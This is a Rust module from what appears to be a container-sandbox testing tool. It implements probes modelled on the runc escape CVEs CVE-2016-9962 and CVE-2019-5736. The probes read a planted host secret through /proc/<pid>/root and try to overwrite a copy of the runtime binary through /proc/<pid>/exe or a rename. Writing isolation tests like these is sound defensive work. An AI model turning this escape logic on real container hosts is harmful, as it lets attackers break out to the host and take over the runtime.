//! Attacks on the runtime itself, while it works.

use std::{
    os::unix::fs::MetadataExt,
    path::{Path, PathBuf},
};

use super::{Loot, from_inside};
use crate::{
    FENCE, PROBE, Scene, Subject,
    probe::{command_line, processes},
    scene::{self, Stop},
    subject::Request,
};

/// Where nothing stands between caller and command, there is nothing to attack.
fn needs_runtime(scene: &Scene) -> Result<(), Stop> {
    match scene.subject {
        Subject::Bare | Subject::Shell => {
            Err(Stop::DoesNotApply("there is no runtime between caller and command".to_owned()))
        }
        _ => Ok(()),
    }
}

/// CVE-2016-9962: a process of runc was to be seen inside while it still had the host's files open.
pub(super) fn reach_runtime(scene: &Scene) -> Result<(bool, String), Stop> {
    needs_runtime(scene)?;
    let secret = scene::host_place()?.join("secret");
    fs_err::write(&secret, "hunter2")?;
    let loot = from_inside(scene, "reach_runtime", &[&secret.to_string_lossy()])?;
    Ok((loot.got_through, loot.evidence))
}

/// The half inside of [`reach_runtime`]. What a process has open, and what it calls its root, are ways to the files
/// themselves, whatever we call our own root.
pub(super) fn reach(secret: &str) -> Loot {
    let reach = || -> Result<String, String> {
        let pid = processes()
            .into_iter()
            .find(|pid| is_runtime(*pid))
            .ok_or("/proc shows no process of the runtime")?;
        let way = format!("/proc/{pid}/root{secret}");
        let text = fs_err::read_to_string(&way).map_err(|error| error.to_string())?;
        Ok(format!("{way}: {text:?}"))
    };
    Loot::of(reach(), |found| found)
}

/// The runtime has our command line at the end of its own.
fn is_runtime(pid: i32) -> bool {
    let words = command_line(pid);
    let is_ours = words.get(1).is_some_and(|word| word == PROBE || word == FENCE);
    !is_ours && words.iter().any(|word| word == PROBE)
}

/// CVE-2019-5736: the next container would be started by the attacker's program, with all that the runtime may do.
/// What is replaced here is a copy that is made for the purpose.
pub(super) fn replace_runtime(scene: &Scene) -> Result<(bool, String), Stop> {
    needs_runtime(scene)?;
    let runtime = scene::host_place()?.join("runtime");
    fs_err::copy(scene.program()?, &runtime)?;
    let file = fs_err::metadata(&runtime)?;
    // The way of that CVE begins like this: the runtime becomes the command, and that is the runtime again.
    let itself = Request { command: vec!["/proc/self/exe".into(), "--help".into()], ..Request::default() };
    let ended = scene.run_copy(&itself, &runtime)?;
    let starts = ended.status.success() && !ended.stdout.is_empty();
    let words = [&runtime.to_string_lossy(), &*file.dev().to_string(), &file.ino().to_string()];
    let loot: Loot = scene.run_copy(&scene.attacker("replace_runtime", &words)?, &runtime)?.json()?;
    let replaced = fs_err::metadata(&runtime)?.ino() != file.ino();
    Ok((
        loot.got_through || replaced,
        format!(
            "{}; as /proc/self/exe it {} inside",
            loot.evidence,
            if starts { "starts" } else { "does not start" }
        ),
    ))
}

/// The half inside of [`replace_runtime`]: the file itself, by way of whoever was started from it, or another one
/// in its place.
pub(super) fn replace(path: &str, device: &str, inode: &str) -> Loot {
    let is_it = |path: &PathBuf| {
        fs_err::metadata(path)
            .is_ok_and(|file| file.dev().to_string() == device && file.ino().to_string() == inode)
    };
    let mut refused = vec![];
    let running = processes().into_iter().map(|pid| PathBuf::from(format!("/proc/{pid}/exe")));
    for exe in running.filter(is_it) {
        match fs_err::OpenOptions::new().write(true).open(&exe) {
            Ok(_) => return Loot { got_through: true, evidence: format!("open({exe:?}, O_WRONLY) = 0") },
            Err(error) => refused.push(error.to_string()),
        }
    }
    let new = Path::new(path).with_extension("new");
    match fs_err::write(&new, "owned").and_then(|()| fs_err::rename(&new, path)) {
        Ok(()) => return Loot { got_through: true, evidence: format!("rename({new:?}, {path:?}) = 0") },
        Err(error) => refused.push(error.to_string()),
    }
    Loot { got_through: false, evidence: refused.join("; ") }
}
